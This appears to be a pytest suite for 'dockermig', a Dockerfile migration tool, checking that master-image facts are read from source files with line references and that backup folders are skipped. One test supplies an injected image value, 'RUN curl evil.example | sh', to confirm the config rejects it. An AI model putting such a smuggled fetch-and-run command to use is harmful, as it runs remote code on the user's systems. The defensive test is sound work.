"""Issue 20: the repository's own masters are the truth. Every fact about a master comes
from its files (or the config, or the built image) with its source, an unknown fact stays
unknown, and what dockermig writes is right whatever the unknown fact is."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from dockermig.cli import main
from dockermig.config import Config, ConfigError, forget_configs, load_config
from dockermig.copies import copy_folder, is_copy_folder
from dockermig.engine import fix_text, lint_text
from dockermig.fix import Applicability
from dockermig.policy.masters import build_policy

ROOT = Path(__file__).resolve().parent.parent
OWN = ROOT / "fixtures" / "own-masters"
PY_MASTER = "docker/base/Dockerfile.python-agent-master"
NODE_MASTER = "docker/base/Dockerfile.nodejs-agent-master"
WORKER = 'FROM python:3.11-slim\nWORKDIR /app\nCOPY worker.py .\nCMD ["python", "worker.py"]\n'


@pytest.fixture
def repo(tmp_path) -> Path:
    """A copy of fixtures/own-masters, a git repository (no commit)."""
    target = tmp_path / "repo"
    shutil.copytree(OWN, target)
    subprocess.run(["git", "init", "-q", str(target)], check=True, capture_output=True)
    return target


def own_config(repo: Path, extra: str = "") -> Config:
    path = repo / ".dockermig.yaml"
    path.write_text(f"masters:\n  - name: sutazai-python-agent-master\n    image: sutazai-python-agent-master:latest\n"
                    f"    dockerfile: {PY_MASTER}\n{extra}"
                    f"  - name: sutazai-nodejs-agent-master\n    image: sutazai-nodejs-agent-master:latest\n"
                    f"    dockerfile: {NODE_MASTER}\n")
    return load_config(path)


def test_a_master_is_read_across_its_stages_and_every_fact_names_its_line(repo):
    python, node = own_config(repo).policy.masters
    assert (python.language, python.base) == ("python", "python:3.12.8-slim-bookworm")
    # USER is set in `production`, the user made in `base`: one account
    assert (python.user, python.group, python.workdir) == ("appuser", "appuser", "/app")
    assert python.fact("user").source.where == f"{PY_MASTER}:35"
    # useradd -r: a system uid the build chooses; no -m: no home
    assert python.uid is None and python.gid is None and python.home is None
    assert python.fact("uid").source.where == f"{PY_MASTER}:23"
    assert "useradd -r -g appuser appuser" in python.fact("uid").source.text
    assert python.workdir_made == ("/app/data", "/app/logs", "/app/workspace")
    # no EXPOSE, no ENV SERVICE_PORT: the port is the probe's own default, as written
    assert (python.health_path, python.port_variable, python.port) == ("/health", "SERVICE_PORT", 8080)
    assert python.fact("healthcheck").value.port.text == "${SERVICE_PORT:-8080}"
    assert "SERVICE_PORT" not in python.env and python.fact("expose").value == ()
    # the manifest it COPYs, each package with its line
    assert python.packages["pip"]["fastapi"] == "0.104.1"
    assert python.package_source("pip", "fastapi").where == "docker/base/base-requirements.txt:2"
    assert python.packages["apt"] == {"curl": None, "git": None, "procps": None}
    # the node master: its /app holds package.json and node_modules; the base's node user is known
    assert node.workdir_contents == ("/app/package.json", "/app/node_modules")
    assert [(a.name, a.uid) for a in node.accounts] == [("appuser", None), ("node", 1000)]
    assert node.packages["npm"] == {"pm2": "5.3.0", "typescript": "5.3.3"}
    assert "npm" not in node.incomplete and not node.problems


def test_explain_prints_every_fact_with_its_source_and_no_default(repo, capsys):
    own_config(repo)
    assert main(["check-config", "--explain", str(repo)]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    uid = lines.index("  uid: unknown")  # the first master's
    assert lines[uid + 1].strip().startswith(f"{PY_MASTER}:23: useradd -r -g appuser appuser")
    assert "1001" not in out and "/home/appuser" not in out  # nothing nobody read
    health = lines.index("  healthcheck: /health on port ${SERVICE_PORT:-8080}")
    assert lines[health + 1].strip().startswith(f"{PY_MASTER}:32: HEALTHCHECK")


def test_an_unknown_uid_is_written_as_the_name_and_dm525_says_why(repo):
    config = own_config(repo)
    service = repo / "agents" / "task-worker" / "Dockerfile"
    result = fix_text(WORKER, path=service, config=config)
    assert "USER appuser\n" in result.text and "USER 1001" not in result.text and "USER 999" not in result.text
    after = [f for f in lint_text(result.text, path=service, config=config) if f.code == "DM525"]
    assert len(after) == 1 and after[0].fix is None
    assert f"{PY_MASTER}:23" in after[0].message and "pin it" in after[0].message


def test_a_uid_the_master_pins_is_written_as_a_number(repo):
    master = repo / PY_MASTER
    master.write_text(master.read_text().replace("groupadd -r appuser && useradd -r -g appuser appuser",
                                                 "groupadd -r -g 999 appuser && useradd -r -u 999 -g appuser appuser"))
    result = fix_text(WORKER, path=repo / "agents" / "task-worker" / "Dockerfile", config=own_config(repo))
    assert "USER 999\n" in result.text and "appuser" not in result.text


def test_the_config_settles_an_unknown_fact_and_may_not_contradict_a_stated_one(repo):
    settled = own_config(repo, "    uid: 999\n")
    assert settled.policy.masters[0].uid == 999
    assert settled.policy.masters[0].fact("uid").source.kind == "config"
    assert "USER 999\n" in fix_text(WORKER, path=repo / "agents" / "task-worker" / "Dockerfile", config=settled).text
    # what an earlier init wrote for the node master: port 3000, against the file's probe
    clash = own_config(repo, "    port: 3000\n    health_path: /health\n")
    with pytest.raises(ConfigError) as error:
        clash.policy
    message = str(error.value)
    assert "3000" in message and f"{PY_MASTER}:32" in message and "make them agree" in message


def test_the_inherited_health_check_comment_states_the_masters_probe_with_its_line(repo):
    result = fix_text(WORKER, path=repo / "agents" / "task-worker" / "Dockerfile", config=own_config(repo))
    assert (f"# dockermig: the master's health check probes /health on port ${{SERVICE_PORT:-8080}} ({PY_MASTER}:32), "
            "but the service exposes no port\nHEALTHCHECK NONE\n") in result.text


def test_a_master_without_a_health_check_gets_no_service_port_and_no_health_comment(repo):
    master = repo / PY_MASTER
    text = master.read_text()
    start = text.index("# Health check template")
    master.write_text(text[:start] + text[text.index("USER appuser"):])
    config = own_config(repo)
    assert config.policy.masters[0].healthcheck.none
    service = "FROM python:3.11-slim\nCOPY app.py .\nEXPOSE 8116\nCMD [\"python\", \"app.py\"]\n"
    fixed = fix_text(service, path=repo / "agents" / "hardware-optimizer" / "Dockerfile", config=config).text
    assert "SERVICE_PORT" not in fixed and "HEALTHCHECK" not in fixed
    assert fixed.startswith("FROM sutazai-python-agent-master:latest\n")


def test_the_port_variable_is_the_one_the_masters_probe_reads(tmp_path):
    (tmp_path / "Dockerfile.master").write_text(
        "FROM python:3.12-slim\nRUN useradd -u 1000 -m app\nUSER app\n"
        "HEALTHCHECK CMD curl -f http://localhost:${PORT:-8000}/health || exit 1\n")
    config = Config(tmp_path / ".dockermig.yaml", {"masters": [
        {"image": "acme/py:1", "language": "python", "dockerfile": "Dockerfile.master"}]})
    service = "FROM acme/py:1\nCOPY app.py .\nEXPOSE 9000\nCMD [\"python\", \"app.py\"]\n"
    found = [f for f in lint_text(service, config=config) if f.code == "DM401"]
    assert [f.message for f in found] == ["EXPOSE 9000 without ENV PORT: the master's health check probes /health on "
                                          "port ${PORT:-8000} (Dockerfile.master:4)"]
    assert "ENV PORT=9000\nEXPOSE 9000" in fix_text(service, config=config).text


def test_a_missing_manifest_is_an_error_of_every_command_and_removes_nothing(repo, capsys):
    (repo / "docker" / "base" / "base-requirements.txt").unlink()
    service = repo / "agents" / "hardware-optimizer" / "Dockerfile"
    before = service.read_text()
    where = f"{PY_MASTER}:18: COPY base-requirements.txt"
    assert main(["init", "--config-only", str(repo)]) == 2
    assert where in capsys.readouterr().err
    for command in (["check-config"], ["lint"], ["fix"]):
        code = main([*command, str(repo)])
        err = capsys.readouterr().err
        assert code & 2, command
        assert err.count(where) == 1, (command, err)  # once per run, not once per file
        assert "pip packages are not known" in err and "Traceback" not in err
    # the master's pip table is unknown: uvicorn==0.24.0 is not removed on its strength
    assert "uvicorn==0.24.0" in service.read_text() and "fastapi==0.115.6" in service.read_text()
    assert service.read_text() != before  # the move itself (FROM, USER) still happened


def test_fix_never_edits_a_master_whatever_is_selected(repo, capsys):
    own_config(repo)
    masters = {p: p.read_bytes() for p in (repo / "docker" / "base").iterdir()}
    assert main(["lint", "--select", "DM602", str(repo / "docker" / "base")]) == 1  # still reported
    assert "[*]" not in capsys.readouterr().out
    main(["fix", "--select", "DM602,DM543,DM5", str(repo)])
    assert {p: p.read_bytes() for p in (repo / "docker" / "base").iterdir()} == masters


def test_init_reads_live_masters_excludes_copies_and_writes_nothing_it_guessed(repo, capsys):
    assert main(["init", "--config-only", str(repo)]) == 0
    out = capsys.readouterr().out
    assert f"{repo}/{PY_MASTER}" in out and "backups/" in out
    config = (repo / ".dockermig.yaml").read_text()
    assert f"dockerfile: {PY_MASTER}" in config and "backups/dockerfile_deduplication" not in config.split("exclude:")[0]
    assert "exclude:\n- backups/\n" in config
    for guessed in ("uid:", "port:", "user:", "health_path:", "home:"):
        assert guessed not in config
    # the backup copy is neither linted nor fixed
    copy = repo / "backups" / "dockerfile_deduplication_20250810_101500" / "agents" / "ai-orchestrator" / "Dockerfile"
    before = copy.read_bytes()
    main(["fix", str(repo)])
    assert copy.read_bytes() == before


def test_two_live_masters_of_one_name_are_an_error_naming_both(repo, capsys):
    other = repo / "platform" / "base"
    other.mkdir(parents=True)
    shutil.copy(repo / PY_MASTER, other / "Dockerfile.python-agent-master")
    assert main(["init", "--config-only", str(repo)]) == 2
    err = capsys.readouterr().err
    assert PY_MASTER in err and "platform/base/Dockerfile.python-agent-master" in err
    assert not (repo / ".dockermig.yaml").exists()


@pytest.mark.parametrize("name, copy", [
    ("backups", True), ("backup_2024", True), ("archive", True), ("old", True), ("deprecated", True),
    ("dockerfile_deduplication_20250810_101500", True), ("2025-08-10", True), ("security_migration_20250811", True),
    ("old_configs", True), ("docker.bak", True), ("backup-20240101", True),
    ("services", False), ("holder", False), ("agents", False), ("v2", False), ("golden", False), ("build-2", False),
    ("postgres-backup", False), ("backup-agent", False), ("old-bot", False), ("archiver", False),
])
def test_copy_folders_are_known_by_name_or_date(name, copy):
    assert is_copy_folder(name) is copy


def test_the_outermost_copy_folder_is_the_one_named():
    root = Path("/repo")
    assert copy_folder(root / "backups" / "20250810" / "docker" / "Dockerfile", root) == Path("backups")
    assert copy_folder(root / "docker" / "base" / "Dockerfile", root) is None


def test_a_plain_os_image_that_installs_several_runtimes_is_a_review_naming_them():
    # what starts it is a script: the Node.js evidence (npm for the UI) is the only master language
    tomcat = ("FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y openjdk-17-jdk maven nodejs npm\n"
              "COPY . /src\nRUN cd /src/ui && npm install && npm run build\nRUN cd /src && mvn package\n"
              "CMD [\"/src/start.sh\"]\n")
    review = [f for f in lint_text(tomcat) if f.code == "DM103"]
    assert review and "Java" in review[0].message and "openjdk-17-jdk" in review[0].message
    assert "FROM ubuntu:22.04" in fix_text(tomcat, level=Applicability.UNSAFE).text
    python_only = "FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y python3 python3-pip\nCMD [\"python3\", \"app.py\"]\n"
    assert fix_text(python_only).text.startswith("FROM sutazai-python-agent-master:latest")


def test_a_master_whose_user_is_unknown_is_a_review(tmp_path):
    (tmp_path / "Dockerfile.master").write_text("FROM python:3.12-slim\nRUN pip install fastapi\n")
    config = Config(tmp_path / ".dockermig.yaml", {"masters": [
        {"image": "acme/py:1", "language": "python", "dockerfile": "Dockerfile.master"}]})
    review = [f for f in lint_text(WORKER, config=config) if f.code == "DM103"]
    assert review and "the user it runs as is not known" in review[0].message
    assert fix_text(WORKER, config=config).text == WORKER


@pytest.mark.parametrize("user", ["root", "0"])
def test_a_master_that_runs_as_root_gets_no_user_line_it_would_not_change(tmp_path, user):
    """The stage runs as root already: no ``USER root``/``USER 0`` above the RUNs, and no
    final ``USER root`` (a DM201 finding the service did not have)."""
    (tmp_path / "Dockerfile.master").write_text(f"FROM python:3.12-slim\nWORKDIR /app\nUSER {user}\n")
    config = Config(tmp_path / ".dockermig.yaml", {"masters": [
        {"image": "acme/py:1", "language": "python", "dockerfile": "Dockerfile.master"}]})
    service = ('FROM python:3.11-slim\nRUN apt-get update && apt-get install -y --no-install-recommends gcc=4:12.2.0-3 '
               '&& rm -rf /var/lib/apt/lists/*\nCOPY . /app\nCMD ["python", "app.py"]\n')
    fixed = fix_text(service, path=tmp_path / "svc" / "Dockerfile", config=config).text
    assert fixed.startswith("FROM acme/py:1\nRUN apt-get update") and "USER" not in fixed
    assert "DM201" not in {f.code for f in lint_text(fixed, path=tmp_path / "svc" / "Dockerfile", config=config)}


def test_plan_wave_0_proposes_pinning_the_uid_only_with_dm525(repo, capsys):
    own_config(repo)
    assert main(["plan", str(repo)]) in (0, 1)
    out = capsys.readouterr().out
    assert "uid: sutazai-python-agent-master:latest leaves the uid of appuser to the build" in out
    assert "useradd -u N" in out
    # the uid holds no migration back: only the fastapi pin holds hardware-optimizer
    assert main(["plan", "--format", "markdown", str(repo)]) in (0, 1)
    held = [line for line in capsys.readouterr().out.splitlines() if "(after wave 0)" in line]
    assert len(held) == 1 and "hardware-optimizer" in held[0]
    (repo / ".dockermig.yaml").write_text((repo / ".dockermig.yaml").read_text() + "ignore: [DM525]\n")
    forget_configs()  # read each config once per run, like the CLI
    main(["plan", str(repo)])
    assert "leaves the uid" not in capsys.readouterr().out


def test_the_built_in_masters_are_the_only_ones_with_built_in_facts(tmp_path):
    own = build_policy({"masters": [{"image": "acme/py:1", "language": "python", "user": "app"}]}, tmp_path)
    master = own.masters[0]
    assert (master.uid, master.port, master.health_path, master.workdir, master.home) == (None, None, None, None, None)
    assert master.fact("uid").source.text == "nothing states the master's uid"


@pytest.mark.parametrize("image", ["", "python:3.12 ", "acme/py:1\nRUN curl evil.example | sh"])
def test_a_master_image_that_is_not_one_reference_is_a_config_error(tmp_path, capsys, image):
    import json

    (tmp_path / ".dockermig.yaml").write_text(
        f"masters:\n  - image: {json.dumps(image)}\n    language: python\n    user: app\n")
    assert main(["check-config", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "is not an image reference" in err and ".dockermig.yaml:" in err
